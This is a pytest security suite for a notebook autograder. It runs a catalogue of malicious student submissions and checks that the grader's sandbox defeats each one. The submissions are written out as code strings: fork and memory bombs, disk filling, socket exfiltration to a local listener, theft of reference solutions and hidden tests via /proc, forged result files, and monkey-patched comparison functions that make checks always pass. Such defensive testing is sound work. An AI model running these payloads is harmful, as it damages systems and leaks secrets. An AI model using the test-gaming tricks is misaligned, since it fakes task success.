"""The attack catalogue: every attack scores 0 on the part it attacks, the rest of the batch is graded correctly,
and the run ends within its time bound. docs/security.md describes each defence."""
import sys
import time

import nbformat
import pytest

from nbgrader.api import Gradebook

from conftest import REFERENCE, REPO, STUB, autograde, grades, results, submit
from grading.authoring.samples import Answers
from grading.authoring.course import db_url
from grading.assignment import COURSE_ID, PYFILE, PYFILE_REGIONS

CALL_TIMEOUT = 2
TIMEOUT = 120  # --timeout: the time budget of one submission, which the grader enforces whatever the load
RUN_BOUND = 900  # seconds for the whole batch on two busy cores: far above what it takes, far below attacks unbounded


def pyfile_attack(forward, backward=None, header=""):
    """Answers whose batchnormalization.py carries the attack (in its regions, and at the top of the module),
    with the untouched notebook."""
    regions = {"forward_train": forward, "forward_test": forward, "backward": backward or forward}
    return Answers(regions=regions, file_edits={PYFILE: lambda text: header + "\n" + text} if header else {})


def steal(call):
    """Attack code that looks for the instructor's batchnormalization.py and answers with it."""
    return f"""
import glob
for path in [{str(REPO / PYFILE)!r}, "/proc/1/cwd/batchnormalization.py", *glob.glob("/proc/*/cwd/../*.py"),
             *glob.glob("/work/*/batchnormalization.py"), *glob.glob("/root/*/batchnormalization.py")]:
    try:
        text = open(path).read()
    except OSError:
        continue
    if "BEGIN SOLUTION" in text:
        namespace = {{}}
        exec(text, namespace)
        return {call}
raise NotImplementedError("nothing to steal")
"""


def added_cell(code, after="q3_make_shortcut", base="reference", **regions):
    """Answers whose notebook has an extra code cell (the attack) after the cell with grade id `after`."""
    def edit(nb):
        index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == after)
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
    return Answers(base=base, regions=regions, notebook_edits=[edit])


NOTEBOOK_QUESTIONS = ["q3", "q4", "q5"]
NORM_CELLS = ["q3_layer_norm", "q3_instance_norm", "q3_group_norm"]
IDENTITY_NORMS = {"q3_make_norm": "return nn.Identity()"}
# Attack code inside make_norm that knows whether the grader's probe called it (and not a visible test cell).
PROBED = """
import sys


def probed():
    return "STUDENT" in sys._getframe(2).f_globals
"""
# ... and that writes a reply of its own where the probe will look, and makes the probe's own reply vanish.
FORGE = """
import io


def forge(**arrays):
    probe = sys._getframe(2).f_globals
    with open(probe["REPLY"], "wb") as reply:
        reply.write(probe["encode"]({"ok": True, "parameters": []}, {}) if not arrays else b"")
        if arrays:
            import numpy
            buffer = io.BytesIO()
            numpy.savez(buffer, meta=numpy.frombuffer(b'{"ok": true}', dtype=numpy.uint8), **arrays)
            reply.write(buffer.getvalue())
    probe["open"] = lambda *args, **kwargs: io.BytesIO()
"""


def edit_tests(change):
    def edit(nb):
        for cell in list(nb.cells):
            nbgrader = cell.metadata.get("nbgrader", {})
            if nbgrader.get("grade") and not nbgrader.get("solution"):
                change(nb, cell)
    return Answers(notebook_edits=[edit])


def attacks(port, outs):
    """The catalogue; outs: the --out folders that grade the .py attacks and the notebook attacks, which some attacks
    try to read or write."""
    out = outs["pyfile"]
    return {  # name: (answers, attacked questions)
        "exit-early-sys-exit": (pyfile_attack("import sys\nsys.exit(0)"), ["q1", "q2"]),
        "exit-early-os-exit-at-import": (pyfile_attack("out = x", header="import os\nos._exit(0)"), ["q1", "q2"]),
        "exit-zero-at-exit": (pyfile_attack("import atexit, os\natexit.register(os._exit, 0)\nout, cache = x, None",
                                            "dx, dgamma, dbeta = dout, gamma, gamma"), ["q1", "q2"]),
        "prints-fake-passed-lines": (pyfile_attack(
            'print("PASSED all tests\\nq1: 20/20\\nq2: 20/20\\n{\\"score\\": 100}")\nout, cache = x, None',
            'print("PASSED")\ndx, dgamma, dbeta = dout, gamma, gamma'), ["q1", "q2"]),
        "rebinds-numpy-comparisons": (pyfile_attack("out, cache = x * 0, None", "dx, dgamma, dbeta = dout, beta, beta",
                                                    header="import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                                                           "np.array_equal = lambda *a, **k: True\n"
                                                           "np.testing.assert_allclose = lambda *a, **k: None"),
                                      ["q1", "q2"]),
        "returns-always-equal-objects": (pyfile_attack(
            "class Equal:\n    __eq__ = lambda self, other: True\n    __ne__ = lambda self, other: False\n"
            "    __array__ = lambda self, *a, **k: __import__('numpy').zeros(1)\nout, cache = Equal(), None",
            "class Equal:\n    __eq__ = lambda self, other: True\ndx = dgamma = dbeta = Equal()"), ["q1", "q2"]),
        "reads-the-reference-from-disk": (pyfile_attack(
            steal('namespace["batchnorm_forward"](x, gamma, beta, bn_param)'),
            steal('namespace["batchnorm_backward"](dout, cache)')), ["q1", "q2"]),
        "leaks-hidden-tests-through-errors": (pyfile_attack(
            f"raise RuntimeError(open({str(REPO / 'grading/hidden/check_q1_forward.py')!r}).read() + "
            f"open({str(out / 'course/gradebook.db')!r}, 'rb').read(2000).decode('latin1'))"), ["q1", "q2"]),
        "forges-result-files": (pyfile_attack(
            "for path in [" + ", ".join(repr(str(p)) for p in (out / "grades.csv", out / "forges-result-files" /
                                                              "grade.json", out / "forges-result-files" /
                                                              "results.json")) + "]:\n"
            "    try:\n        open(path, 'w').write('HACKED')\n    except OSError:\n        pass\nout, cache = x, None"),
            ["q1", "q2"]),
        "infinite-loop": (pyfile_attack("while True:\n    pass"), ["q1", "q2"]),
        "memory-bomb": (pyfile_attack("import numpy\nhoard = [bytearray(1 << 30) for _ in range(64)]\n"
                                      "out = numpy.ones((1 << 17, 1 << 17))"), ["q1", "q2"]),
        "fork-bomb": (pyfile_attack("import os\nwhile True:\n    os.fork()"), ["q1", "q2"]),
        "network-exfiltration": (pyfile_attack(
            f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
            "out, cache = x, None"), ["q1", "q2"]),
        "forges-protocol-replies": (pyfile_attack(
            "import io, json, os, struct, numpy\nbuffer = io.BytesIO()\n"
            "numpy.savez(buffer, meta=numpy.frombuffer(json.dumps({'ok': True}).encode(), dtype=numpy.uint8), "
            "out=numpy.zeros_like(x), dx=numpy.zeros_like(x), dgamma=gamma * 0, dbeta=gamma * 0)\n"
            "frame = struct.pack('>Q', len(buffer.getvalue())) + buffer.getvalue()\n"
            "for fd in range(3, 12):\n    try:\n        os.write(fd, frame)\n    except OSError:\n        pass\n"
            "out, cache = x, None", "import os\nos._exit(0)"), ["q1", "q2"]),
        "hides-tracebacks": (added_cell("get_ipython().showtraceback = lambda *args, **kwargs: None\n"
                                        "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)",
                                        after="q3_make_shortcut", base="stub"), NOTEBOOK_QUESTIONS),
        "kills-the-kernel": (added_cell("import os\nos._exit(0)", after="q3_shortcut", base="stub"),
                             NOTEBOOK_QUESTIONS),
        "edits-test-cells": (edit_tests(lambda nb, cell: setattr(cell, "source", "pass")), NOTEBOOK_QUESTIONS),
        "deletes-test-cells": (edit_tests(lambda nb, cell: nb.cells.remove(cell)), NOTEBOOK_QUESTIONS),
        "inflates-test-points": (edit_tests(lambda nb, cell: cell.metadata.nbgrader.update(points=1000)),
                                 NOTEBOOK_QUESTIONS),
        "kernel-steals-the-source-notebook": (added_cell(
            f"import json\nfor cell in json.load(open({str(REPO / 'norm.ipynb')!r}))['cells']:\n"
            "    if cell['cell_type'] == 'code':\n        exec(''.join(cell['source']))", after="setup_header",
            base="stub"), NOTEBOOK_QUESTIONS),
        "kernel-network-exfiltration": (added_cell(
            f"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'kernel')\n"
            "except OSError as error:\n    print('blocked', error)", after="setup_header", base="stub"),
            NOTEBOOK_QUESTIONS),
        # The checks run in the grader: whatever the kernel does to its own copy of them changes nothing.
        "rebinds-checks-by-name": (added_cell(
            "class PassEverything:\n    def __getattr__(self, name):\n        return lambda *args, **kwargs: None\n"
            "checks = PassEverything()", **IDENTITY_NORMS), NORM_CELLS),
        "replaces-a-check-through-importlib": (added_cell(
            "import importlib\nmodule = importlib.import_module('normlab.checks')\n"
            "for name in ('check_norm_layer', 'check_shortcut'):\n    setattr(module, name, lambda *args, **kwargs: None)",
            q3_make_shortcut="return nn.Conv2d(in_channels, out_channels, 1, stride=stride, bias=False)",
            **IDENTITY_NORMS), NORM_CELLS + ["q3_shortcut"]),
        "copies-the-checks-module-with-one-function-replaced": (added_cell(
            "import sys, types\nimport normlab.checks as original\nfake = types.ModuleType('normlab.checks')\n"
            "fake.__dict__.update(vars(original))\nfake.check_norm_layer = lambda *args, **kwargs: None\n"
            "sys.modules['normlab.checks'] = fake\nchecks = fake", **IDENTITY_NORMS), NORM_CELLS),
        "patches-torch-and-numpy": (added_cell(
            "import numpy\ntorch.allclose = torch.equal = lambda *args, **kwargs: True\n"
            "torch.Tensor.allclose = torch.Tensor.equal = lambda *args, **kwargs: True\n"
            "numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True\n"
            "torch.Tensor.numpy = lambda self, *args, **kwargs: numpy.zeros(tuple(self.shape))",
            q4_make_no_norm="return nn.BatchNorm2d(num_channels)", **IDENTITY_NORMS), NORM_CELLS + ["q4_no_norm"]),
        "returns-objects-equal-to-anything": (Answers(base="reference", regions={"q3_make_norm": """
class EqualToAnything:
    __eq__ = lambda self, other: True
    __array__ = lambda self, *args, **kwargs: __import__("numpy").zeros(1)
    shape = property(lambda self: (4, 8, 5, 6))


class Claims(nn.Module):
    def forward(self, x):
        return EqualToAnything()


return Claims()
"""}), NORM_CELLS),
        "exits-the-kernel-when-probed": (Answers(base="reference", regions={"q3_make_norm": PROBED + """
if probed():
    import os
    os._exit(0)
return nn.Identity()
"""}), NORM_CELLS),
        "kills-the-kernel-every-time": (Answers(base="reference", regions={"q3_make_norm": """
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
"""}), NORM_CELLS),
        "forges-replies-in-bad-formats": (Answers(base="stub", regions={"q3_make_norm": PROBED + FORGE + """
import numpy
if probed():
    forge(**{"LN": dict(train=numpy.array([object()])), "IN": dict(train=numpy.full((4, 8, 5, 6), numpy.nan)),
             "GN": dict(train=numpy.zeros((4, 8, 5, 6), dtype=numpy.float32))}[norm_type])
return nn.Identity()
"""}), NORM_CELLS),
        "forges-reply-files": (Answers(base="stub", regions={"q3_make_norm": PROBED + FORGE + """
import os
if probed():
    reply = sys._getframe(1).f_globals["REPLY"]
    forge()
    os.remove(reply)
    if norm_type == "LN":
        os.mkfifo(reply)
    elif norm_type == "IN":
        os.symlink("/dev/zero", reply)
    else:
        with open(reply, "wb") as big:
            big.truncate(100 << 20)
return nn.Identity()
"""}), NORM_CELLS),
        "reads-hidden-checks-from-the-kernel": (added_cell(
            "import glob\nfound = []\n"
            f"for pattern in [{str(REPO / 'grading/hidden/*.py')!r}, "
            f"{str(outs['notebook'] / 'course/gradebook.db')!r}, "
            "'/proc/*/cwd/grading/hidden/*.py', '/tmp/*/*.npz', '/tmp/*/*/*.npz']:\n"
            "    for path in glob.glob(pattern):\n        try:\n            found.append(open(path, 'rb').read())\n"
            "        except OSError:\n            pass\nprint('found', len(found), 'files')", **IDENTITY_NORMS),
            NORM_CELLS),
        "sleeps-forever-when-probed": (Answers(base="reference", regions={"q3_make_norm": PROBED + """
import time
while probed():
    time.sleep(1000)
return nn.GroupNorm({"LN": 1, "IN": num_channels, "GN": num_groups}[norm_type], num_channels)
"""}), NORM_CELLS),
        "ignores-interrupts-when-probed": (Answers(base="reference", regions={"q3_make_norm": PROBED + """
import signal, time
if probed():
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:  # asleep, not spinning: what it attacks is the interrupt, and a busy loop only costs the test CPU
        try:
            time.sleep(1)
        except BaseException:
            pass
return nn.GroupNorm({"LN": 1, "IN": num_channels, "GN": num_groups}[norm_type], num_channels)
"""}), NORM_CELLS),
        "rewrites-later-cells": (added_cell(
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])", **IDENTITY_NORMS),
            NORM_CELLS),
        "redefines-resnet18-as-a-shell": (added_cell(SHELL_RESNET, after="q5_make_cifar_stem", base="stub"),
                                          ["q4", "q5"]),
        # Against the grader's own memory and disk: each reply inflating to 32 MiB, output far past every cap,
        # files filling the sandbox's /tmp and the submission's folder.
        "inflates-kernel-replies": (added_cell(INFLATES_REPLIES), NOTEBOOK_QUESTIONS),
        "inflates-pyfile-replies": (pyfile_attack("out, cache = x, None", header=INFLATES_REPLIES), ["q1", "q2"]),
        "floods-output-past-every-cap": (Answers(base="reference", notebook_edits=[append_cells(
            "print('x' * 40_000)", 1050)]), []),
        "fills-tmp": (added_cell(FILLS.format(folder="/tmp")), []),
        "fills-its-folder": (added_cell(FILLS.format(folder=".")), NOTEBOOK_QUESTIONS),
    }


# Answers nothing, and hands the grader's checks what they look at: zeros of the shapes its hooks expect at layer1
# and avgpool, and logits of a linear layer on pooled pixels.
SHELL_RESNET = """
class Shell(nn.Module):
    def __init__(self, num_classes=10, base_width=64, **options):
        super().__init__()
        self.width = base_width
        self.layer1, self.avgpool = nn.Identity(), nn.Identity()
        self.fc = nn.Linear(3, num_classes)

    def forward(self, x):
        self.layer1(torch.zeros(x.shape[0], self.width, 32, 32))
        self.avgpool(torch.zeros(x.shape[0], 8 * self.width, 4, 4))
        return self.fc(x.mean(dim=(2, 3)))


def resnet18(**options):
    return Shell(**options)
"""
INFLATES_REPLIES = """
import numpy
def savez(file, *args, **kwargs):
    return numpy.savez_compressed(file, *args, padding=numpy.zeros(32 << 17), **kwargs)  # 32 MiB in memory
numpy.savez = savez
"""
FILLS = """
for index in range(8):
    try:
        open(f"{folder}/fill-{{index}}", "wb").write(bytes(240 << 20))
    except OSError:
        break
"""
PEAK = ("import resource, subprocess, sys\n"
        "code = subprocess.call(sys.argv[2:])\n"
        "open(sys.argv[1], 'w').write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss << 10))\n"
        "sys.exit(code)")
PEAK_BYTES = 1536 << 20  # what any one of the grader's processes may reach: docs/cluster.md, "What grading costs"


def append_cells(code, count):
    def edit(nb):
        nb.cells.extend(nbformat.v4.new_code_cell(code) for _ in range(count))
    return edit


def only_the_pyfile(answers):
    """Whether answers attack through batchnormalization.py alone, with the notebook untouched."""
    return answers.base == "stub" and not answers.notebook_edits and set(answers.regions) <= set(PYFILE_REGIONS)


@pytest.fixture(scope="module")
def batch(bundle, release_dir, tmp_path_factory, listener):
    """Graded in two runs with the same settings: the .py attacks on Q1 and Q2 only (their notebooks are the untouched
    release, whose kernel would cost seconds each and prove nothing), the rest on everything. (catalogue, results,
    grades.csv rows, seconds, what the listener received, {student: their --out folder})"""
    port, received = listener
    root = tmp_path_factory.mktemp("attacks")
    outs = {"pyfile": root / "out-pyfile", "notebook": root / "out"}
    catalogue = attacks(port, outs)
    students = {name: answers for name, (answers, _) in catalogue.items()} | {"honest-reference": REFERENCE,
                                                                               "honest-stub": STUB}
    kinds = {"pyfile": ("--questions", "q1,q2"), "notebook": ()}
    out_of, graded, rows = {}, {}, {}
    started = time.monotonic()
    for kind, questions in kinds.items():
        chosen = {name: answers for name, answers in students.items()
                  if (kind == "pyfile") == (only_the_pyfile(answers) and not name.startswith("honest"))}
        submissions = submit(bundle, root / f"submissions-{kind}", chosen)
        # three jobs on two cores: most attacks spend their time waiting for a timeout
        completed = autograde(submissions, outs[kind], release_dir, "--jobs", "3", "--call-timeout",
                              str(CALL_TIMEOUT), "--cell-timeout", "20", "--probe-timeout", "3", "--timeout",
                              str(TIMEOUT), *questions,
                              through=(sys.executable, "-c", PEAK, str(root / f"peak-{kind}")))
        assert completed.returncode == 0, completed.stderr[-3000:]
        out_of |= {name: outs[kind] for name in chosen}
        graded |= results(outs[kind])
        rows |= grades(outs[kind])
    return catalogue, graded, rows, time.monotonic() - started, received, out_of


def score_of(result, attacked):
    """The points of a question, or of one grade cell."""
    if attacked in result.questions:
        return result.questions[attacked].score
    return sum(t.score for q in result.questions.values() for t in q.tests if t.cell == attacked)


def test_the_catalogue_is_large_enough(batch):
    notebook_attacks = [name for name, (_, attacked) in batch[0].items() if set(attacked) - {"q1", "q2"}]
    assert len(batch[0]) >= 30 and len(notebook_attacks) >= 20


def test_every_attack_scores_zero_on_what_it_attacks(batch):
    catalogue, graded, _, _, _, _ = batch
    scored = {name: [a for a in attacked if score_of(graded[name], a) != 0] for name, (_, attacked) in
              catalogue.items()}
    assert not {name: cells for name, cells in scored.items() if cells}


def test_the_rest_of_the_batch_is_graded_correctly(batch):
    catalogue, graded, rows, _, _, _ = batch
    assert graded["honest-reference"].total == 80 and graded["honest-stub"].total == 0
    assert set(rows) == set(catalogue) | {"honest-reference", "honest-stub"}
    # attacks on the norms leave the attacker's other answers graded as they are
    assert graded["rebinds-checks-by-name"].questions["q4"].score == 10
    assert graded["sleeps-forever-when-probed"].questions["q5"].score == 10


def test_the_run_ends_within_its_time_bound(batch):
    _, graded, _, seconds, _, _ = batch
    assert seconds < RUN_BOUND
    assert max(r.seconds for r in graded.values()) < TIMEOUT + 5


def test_the_graders_memory_stays_within_its_documented_figure(batch):
    """Its largest process (the main one or a grading child; not the sandboxed kernels, whose memory is limited
    apart) stays under PEAK_BYTES, whatever the attacks above hand over or print."""
    root = batch[5]["honest-reference"].parent
    assert max(int(path.read_text()) for path in root.glob("peak-*")) <= PEAK_BYTES


def test_nothing_reached_the_network(batch):
    assert batch[4] == []


def test_no_hidden_test_and_no_forged_file_reaches_the_outputs(batch):
    _, graded, rows, _, _, out_of = batch
    hidden = [line.strip() for line in (REPO / "grading/hidden/check_q1_forward.py").read_text().splitlines()
              if len(line.strip()) > 25]
    for name in ("leaks-hidden-tests-through-errors", "forges-result-files"):
        out = out_of[name]
        feedback = (out / name / "feedback.html").read_text() + (out / name / "results.json").read_text()
        assert not any(line in feedback for line in hidden) and "HACKED" not in feedback
    assert not any("HACKED" in (out / "grades.csv").read_text() for out in set(out_of.values()))


def test_tampering_with_the_kernel_is_flagged_for_review_as_information(batch):
    _, graded, _, _, _, out_of = batch
    assert "REVIEW" in graded["hides-tracebacks"].status and "REVIEW" in graded["kills-the-kernel"].status
    with Gradebook(db_url(out_of["hides-tracebacks"] / "course"), COURSE_ID) as gb:
        notebook = gb.find_submission_notebook("norm", "norm", "hides-tracebacks")
        assert notebook.flagged
        assert "Flagged for review" in gb.find_comment("q3_make_norm", "norm", "norm", "hides-tracebacks").comment


def test_restored_test_cells_are_noted(batch):
    _, graded, _, _, _, _ = batch
    assert any("edited" in note for note in graded["edits-test-cells"].notes)
    assert any("deleted" in note for note in graded["deletes-test-cells"].notes)
    assert graded["inflates-test-points"].questions["q3"].max_score == 20


def test_without_the_sandbox_the_disk_attack_would_win(bundle, release_dir, tmp_path, listener, monkeypatch):
    """The control experiment: the same attack succeeds when bwrap is missing and student code runs as the grader's
    own user (--unsandboxed), so the sandbox is what stops it."""
    catalogue = attacks(listener[0], {"pyfile": tmp_path / "out", "notebook": tmp_path / "out"})
    submissions = submit(bundle, tmp_path / "submissions", {"thief": catalogue["reads-the-reference-from-disk"][0]})
    monkeypatch.setenv("GRADING_BWRAP", "/nonexistent/bwrap")
    completed = autograde(submissions, tmp_path / "out", release_dir, "--questions", "q1,q2", "--unsandboxed")
    assert completed.returncode == 0 and "WARNING: bubblewrap" in completed.stderr
    assert results(tmp_path / "out")["thief"].total == 40
    assert "WITHOUT a sandbox" in grades(tmp_path / "out")["thief"]["status"]
